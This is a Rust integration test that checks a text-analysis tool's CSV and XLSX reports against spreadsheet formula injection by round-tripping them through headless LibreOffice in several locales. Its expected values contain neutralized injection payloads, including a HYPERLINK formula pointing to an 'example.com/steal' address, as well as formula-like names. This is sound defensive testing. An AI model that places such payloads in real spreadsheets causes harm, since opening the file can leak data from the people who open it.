//! The reports opened in a real spreadsheet: LibreOffice Calc, headless,
//! imports each CSV report the way a user's double-click does (with its most
//! eager type detection: special numbers and formulas evaluated), saves it
//! as XLSX, and `calamine` reads that back. Also our own workbook, read
//! directly and after LibreOffice has opened and saved it.
//!
//! What must hold, in English (US) and English (UK), and with `--european`
//! CSV in German and French:
//! - numeric columns arrive as numbers, with the values the CSV shows;
//! - text stays text, exactly as written (a neutralized cell keeps its `'`
//!   in CSV; the workbook holds the raw text);
//! - nothing is evaluated as a formula, and no cell becomes a date, time or
//!   boolean;
//! - curly quotes, accents, Arabic, Cyrillic and emoji arrive intact.
//!
//! The inputs are `tests/spreadsheet/`: hostile titles and text, a theme
//! dictionary with hostile names, and file names starting with `=` and `-`.
//!
//! LibreOffice is needed: `.ci/run` installs it. Elsewhere the test is
//! skipped, with a message on stderr, when `soffice` is missing, unless
//! `TEXTGAUGE_REQUIRE_LIBREOFFICE=1` (as in CI) makes that a failure.

mod common;

use calamine::{open_workbook, Data, Reader, Xlsx};
use common::textgauge;
use std::io::Write;
use std::path::{Path, PathBuf};

/// LibreOffice language ids (LCIDs) used for CSV import.
const EN_US: u32 = 1033;
const EN_GB: u32 = 2057;
const DE_DE: u32 = 1031;
const FR_FR: u32 = 1036;

/// Columns of text; every other column holds numbers.
const TEXT_COLUMNS: [&str; 21] = [
    "document",
    "author",
    "published",
    "score",
    "group",
    "metric",
    "level",
    "title",
    "dale_chall_grade",
    "encoding",
    "term",
    "theme",
    "parent",
    "dictionary",
    "matched_terms",
    "left",
    "match",
    "right",
    "text",
    "stage",
    "message",
];

/// The reports checked in every round trip.
const REPORTS: [&str; 9] = [
    "documents",
    "terms",
    "themes",
    "corpus_terms",
    "keyness",
    "compare",
    "groups",
    "sentences",
    "kwic",
];

/// A CSV dialect as the test reads it.
#[derive(Clone, Copy)]
struct Dialect {
    delimiter: u8,
    decimal_comma: bool,
}

const STANDARD: Dialect = Dialect {
    delimiter: b',',
    decimal_comma: false,
};
const EUROPEAN: Dialect = Dialect {
    delimiter: b';',
    decimal_comma: true,
};

#[test]
fn reports_survive_a_libreoffice_round_trip() {
    let Some(soffice) = libreoffice() else {
        return;
    };
    let work = tempfile::tempdir().unwrap();
    let inputs = hostile_inputs(work.path());
    let workbook_args: &[&str] = if cfg!(feature = "xlsx") {
        &["--xlsx", "reports.xlsx"]
    } else {
        &[]
    };
    let standard = run_textgauge(&inputs, work.path(), "standard", workbook_args);
    let european = run_textgauge(&inputs, work.path(), "european", &["--european"]);
    check_contents_of_the_csv(&standard);
    for (language, name) in [(EN_US, "en-US"), (EN_GB, "en-GB")] {
        check_csv_import(&soffice, &standard, STANDARD, language, name);
    }
    for (language, name) in [(DE_DE, "de-DE"), (FR_FR, "fr-FR")] {
        check_csv_import(&soffice, &european, EUROPEAN, language, name);
    }
    for (dir, dialect) in [(&standard, STANDARD), (&european, EUROPEAN)] {
        check_import_split_elsewhere(&soffice, dir, dialect);
    }
    if cfg!(feature = "xlsx") {
        let raw = run_textgauge(&inputs, work.path(), "raw", &["--raw-csv"]);
        check_workbook(&soffice, &standard.join("reports.xlsx"), &raw);
    }
}

/// Our workbook, read as written and after LibreOffice has opened and
/// saved it: numbers as in the CSV, text exactly as in the raw CSV of `raw`.
fn check_workbook(soffice: &LibreOffice, workbook: &Path, raw: &Path) {
    let resaved = soffice.resave_xlsx(workbook);
    for report in REPORTS {
        let csv = read_csv(&raw.join(format!("{report}.csv")), STANDARD);
        for (path, how) in [
            (workbook, "as written"),
            (resaved.as_path(), "after LibreOffice"),
        ] {
            let sheet = read_sheet(path, report);
            assert_same_cells(&csv, &sheet, STANDARD, &format!("{report} xlsx {how}"));
        }
    }
}

/// A file opened with the wrong separator (a comma CSV in a German Excel,
/// which splits at `;`) starts cells inside our fields: LibreOffice splits
/// every report at each other separator (`,` or `;`, tab, `|`) in turn,
/// and no cell may come out as a formula (`read_sheet` checks).
fn check_import_split_elsewhere(soffice: &LibreOffice, dir: &Path, dialect: Dialect) {
    for separator in [b',', b';', b'\t', b'|'] {
        if separator == dialect.delimiter {
            continue;
        }
        let name = format!("split-at-{separator}");
        let converted = soffice.convert_csv(dir, &separator.to_string(), EN_US, &name);
        for report in REPORTS {
            read_sheet(&converted.join(format!("{report}.xlsx")), report);
        }
    }
}

/// LibreOffice imports every report CSV of `dir` in `language`; each
/// arrives cell for cell as the CSV says.
fn check_csv_import(
    soffice: &LibreOffice,
    dir: &Path,
    dialect: Dialect,
    language: u32,
    name: &str,
) {
    let converted = soffice.csv_to_xlsx(dir, dialect, language, name);
    for report in REPORTS {
        let csv = read_csv(&dir.join(format!("{report}.csv")), dialect);
        let sheet = read_sheet(&converted.join(format!("{report}.xlsx")), report);
        assert_same_cells(&csv, &sheet, dialect, &format!("{report} {name}"));
    }
}

/// Copy the fixtures into `dir`, under hostile file names.
fn hostile_inputs(dir: &Path) -> PathBuf {
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/spreadsheet");
    let articles = dir.join("articles");
    std::fs::create_dir(&articles).unwrap();
    // Two folders, so that `--group-by folder` makes two groups whose
    // names a spreadsheet would turn into a formula and a date.
    for (from, to) in [
        ("injection.txt", "=2+2/=1+1.txt"),
        ("unicode.txt", "=2+2/-2+3 «unicode».txt"),
        ("plain.txt", "3-4/11-12.txt"),
        ("dates.txt", "3-4/Monday, 5 May.txt"),
        ("tariffs.txt", "3-4/tariffs.txt"),
    ] {
        let to = articles.join(to);
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        std::fs::copy(fixtures.join("articles").join(from), to).unwrap();
    }
    std::fs::copy(fixtures.join("themes.csv"), dir.join("themes.csv")).unwrap();
    std::fs::copy(fixtures.join("metadata.csv"), dir.join("metadata.csv")).unwrap();
    articles
}

/// `textgauge analyze .` inside the articles folder (so that ids start with
/// the hostile names), reports into `DIR/NAME`.
fn run_textgauge(articles: &Path, dir: &Path, name: &str, extra: &[&str]) -> PathBuf {
    let out = dir.join(name);
    textgauge()
        .current_dir(articles)
        .args([
            "analyze",
            ".",
            "--sentences",
            "--kwic",
            "--group-by",
            "folder",
            "--themes",
        ])
        .arg(dir.join("themes.csv"))
        .arg("--metadata")
        .arg(dir.join("metadata.csv"))
        .arg("--out")
        .arg(&out)
        .args(extra.iter().map(|arg| match *arg {
            "reports.xlsx" => out.join("reports.xlsx").into_os_string(),
            other => other.into(),
        }))
        .assert()
        .success();
    out
}

/// What the CSV must say, before any spreadsheet sees it.
fn check_contents_of_the_csv(dir: &Path) {
    let docs = read_csv(&dir.join("documents.csv"), STANDARD);
    let column = |name: &str| docs[0].iter().position(|h| h == name).unwrap();
    let ids: Vec<&str> = docs[1..].iter().map(|r| r[0].as_str()).collect();
    assert_eq!(
        ids,
        [
            "3-4/11-12.txt",
            "3-4/Monday, 5 May.txt",
            "3-4/tariffs.txt",
            "'=2+2/-2+3 «unicode».txt",
            "'=2+2/=1+1.txt",
        ]
    );
    let titles: Vec<&str> = docs[1..]
        .iter()
        .map(|r| r[column("title")].as_str())
        .collect();
    assert_eq!(
        titles,
        [
            "Why Councils Struggle With Long-Term Planning",
            // A date alone on the first line is page furniture (a dateline),
            // not a headline; date-like text is checked in `published`.
            "",
            "Tariffs Again",
            "“Привет” — مرحبا — Café Ñandú 🎉",
            "'=HYPERLINK(\"http://example.com/steal?d=\",\"Click for details\")",
        ]
    );
    let published: Vec<&str> = docs[1..]
        .iter()
        .map(|r| r[column("published")].as_str())
        .collect();
    assert_eq!(published, ["'May 5, 2024", "", "'TRUE", "", "'2025-03-14"]);
    let authors: Vec<&str> = docs[1..]
        .iter()
        .map(|r| r[column("author")].as_str())
        .collect();
    assert_eq!(authors[4], "'=HYPERLINK(\"http://x.test\")");
    assert_eq!(authors[2], "'-Bo", "a leading minus is a formula start");
    let band = &docs[1][column("dale_chall_grade")];
    assert!(band.contains(" to ") || band.contains(" and "), "{band}");
    let keyness = read_csv(&dir.join("keyness.csv"), STANDARD);
    let p_value = keyness[0].iter().position(|h| h == "p_value").unwrap();
    assert!(
        keyness[1..].iter().any(|r| r[p_value].contains("e-")),
        "a p-value in scientific notation is in the round trip"
    );
    let groups = read_csv(&dir.join("groups.csv"), STANDARD);
    let names: std::collections::BTreeSet<&str> =
        groups[1..].iter().map(|r| r[0].as_str()).collect();
    assert_eq!(names.into_iter().collect::<Vec<_>>(), ["'3-4", "'=2+2"]);
    let themes = read_csv(&dir.join("themes.csv"), STANDARD);
    let names: Vec<&str> = themes[1..4].iter().map(|r| r[1].as_str()).collect();
    // (A `/` would nest the theme: the hostile name holds none.)
    assert_eq!(names[0], "'=HYPERLINK(\"mailto:editor@example.com\",\"x\")");
    assert_eq!(names[2], "'-risk");
    let nested = themes[1..]
        .iter()
        .find(|r| r[1] == "'+5/escalation")
        .expect("the nested theme's row");
    let parent = themes[0].iter().position(|h| h == "parent").unwrap();
    assert_eq!(
        nested[parent], "'+5",
        "its parent, a formula-like name, neutralized"
    );
}

/// Every cell of `sheet` is what the CSV field says it should be.
fn assert_same_cells(csv: &[Vec<String>], sheet: &[Vec<Data>], dialect: Dialect, what: &str) {
    assert_eq!(sheet.len(), csv.len(), "{what}: rows");
    let header = &csv[0];
    for (r, (fields, cells)) in csv.iter().zip(sheet).enumerate() {
        for (c, field) in fields.iter().enumerate() {
            let cell = cells.get(c).unwrap_or(&Data::Empty);
            let text = r == 0 || TEXT_COLUMNS.contains(&header[c].as_str());
            let expected = expected_cell(field, text, dialect);
            let same = match (&expected, cell) {
                (Data::Float(a), Data::Float(b)) => (a - b).abs() <= 1e-9 * a.abs().max(1.0),
                (Data::Float(a), Data::Int(b)) => *a == *b as f64,
                (Data::String(a), Data::String(b)) => a == b,
                (Data::Empty, Data::Empty) => true,
                (Data::Empty, Data::String(b)) => b.is_empty(),
                _ => false,
            };
            assert!(
                same,
                "{what}: row {r} column {c}: field {field:?} arrived as {cell:?}"
            );
        }
    }
}

/// What a CSV field must become: in a number column, the number it shows
/// in the dialect; in a text column, the text exactly.
fn expected_cell(field: &str, text: bool, dialect: Dialect) -> Data {
    if field.is_empty() {
        return Data::Empty;
    }
    if text {
        return Data::String(field.to_owned());
    }
    let number = if dialect.decimal_comma {
        field.replace(',', ".")
    } else {
        field.to_owned()
    };
    let plain = number
        .bytes()
        .all(|b| b.is_ascii_digit() || matches!(b, b'.' | b'-' | b'e'));
    assert!(plain, "a number column holds {field:?}");
    Data::Float(number.parse().unwrap())
}

fn read_csv(path: &Path, dialect: Dialect) -> Vec<Vec<String>> {
    let bytes = std::fs::read(path).unwrap();
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(&bytes);
    csv::ReaderBuilder::new()
        .delimiter(dialect.delimiter)
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|record| record.unwrap().iter().map(String::from).collect())
        .collect()
}

/// The cells of a sheet, and a check that none holds a formula.
fn read_sheet(path: &Path, name: &str) -> Vec<Vec<Data>> {
    let mut workbook: Xlsx<_> =
        open_workbook(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let sheet_name = workbook
        .sheet_names()
        .into_iter()
        .find(|n| n == name)
        .unwrap_or_else(|| {
            let names = workbook.sheet_names();
            assert_eq!(names.len(), 1, "{}: sheets {names:?}", path.display());
            names[0].clone()
        });
    let formulas = workbook.worksheet_formula(&sheet_name).unwrap();
    let evaluated: Vec<&String> = formulas
        .used_cells()
        .map(|(_, _, f)| f)
        .filter(|f| !f.is_empty())
        .collect();
    assert!(
        evaluated.is_empty(),
        "{}: formulas {evaluated:?}",
        path.display()
    );
    let range = workbook.worksheet_range(&sheet_name).unwrap();
    assert_eq!(
        range.start().unwrap_or((0, 0)),
        (0, 0),
        "{name}: starts at A1"
    );
    range.rows().map(<[Data]>::to_vec).collect()
}

/// A headless LibreOffice with its own profile.
struct LibreOffice {
    program: PathBuf,
    profile: tempfile::TempDir,
}

/// LibreOffice if installed; otherwise a visible skip (or a failure in CI).
fn libreoffice() -> Option<LibreOffice> {
    let found = ["soffice", "libreoffice"]
        .iter()
        .find_map(|name| which(name));
    match found {
        Some(program) => Some(LibreOffice {
            program,
            profile: tempfile::tempdir().unwrap(),
        }),
        None if std::env::var_os("TEXTGAUGE_REQUIRE_LIBREOFFICE").is_some() => {
            panic!("LibreOffice (soffice) is required here but not installed")
        }
        None => {
            // Written past the test harness's capture, so it shows.
            let _ = writeln!(
                std::io::stderr(),
                "SKIPPED spreadsheet round trip: LibreOffice (soffice) is not installed; \
                 `.ci/run` installs it (apt-get install libreoffice-calc)"
            );
            None
        }
    }
}

fn which(name: &str) -> Option<PathBuf> {
    let paths = std::env::var_os("PATH")?;
    std::env::split_paths(&paths)
        .map(|dir| dir.join(name))
        .find(|path| path.is_file())
}

impl LibreOffice {
    /// Import every report CSV of `dir` with LibreOffice's CSV filter in
    /// `language`, detecting special numbers and evaluating formulas, and
    /// save each as XLSX into a new folder.
    fn csv_to_xlsx(&self, dir: &Path, dialect: Dialect, language: u32, name: &str) -> PathBuf {
        self.convert_csv(dir, &dialect.delimiter.to_string(), language, name)
    }

    /// The same with `separators` (ASCII codes joined by `/`).
    fn convert_csv(&self, dir: &Path, separators: &str, language: u32, name: &str) -> PathBuf {
        let out = dir.join(format!("libreoffice-{name}"));
        // Tokens: separators, quote, UTF-8 (76), first line, column formats
        // (none), language, quoted field as text (no), detect special numbers
        // (yes), scientific (no), ---, trim spaces (no), sheet, evaluate formulas (yes).
        let filter =
            format!("CSV:{separators},34,76,1,,{language},false,true,false,false,false,-1,true");
        let files: Vec<PathBuf> = REPORTS
            .iter()
            .map(|r| dir.join(format!("{r}.csv")))
            .collect();
        self.convert(&format!("--infilter={filter}"), &files, &out);
        out
    }

    /// Open our workbook in LibreOffice and save it again.
    fn resave_xlsx(&self, workbook: &Path) -> PathBuf {
        let out = workbook.parent().unwrap().join("libreoffice-resaved");
        self.convert("--norestore", &[workbook.to_path_buf()], &out);
        out.join(workbook.file_name().unwrap())
    }

    fn convert(&self, option: &str, files: &[PathBuf], out: &Path) {
        let profile = format!(
            "-env:UserInstallation=file://{}",
            self.profile.path().display()
        );
        let output = std::process::Command::new(&self.program)
            .args([
                profile.as_str(),
                "--headless",
                "--norestore",
                option,
                "--convert-to",
                "xlsx:Calc MS Excel 2007 XML",
                "--outdir",
            ])
            .arg(out)
            .args(files)
            .output()
            .expect("soffice runs");
        assert!(
            output.status.success(),
            "soffice: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        for file in files {
            let converted = out.join(file.with_extension("xlsx").file_name().unwrap());
            assert!(
                converted.exists(),
                "soffice did not write {}: {}",
                converted.display(),
                String::from_utf8_lossy(&output.stdout)
            );
        }
    }
}
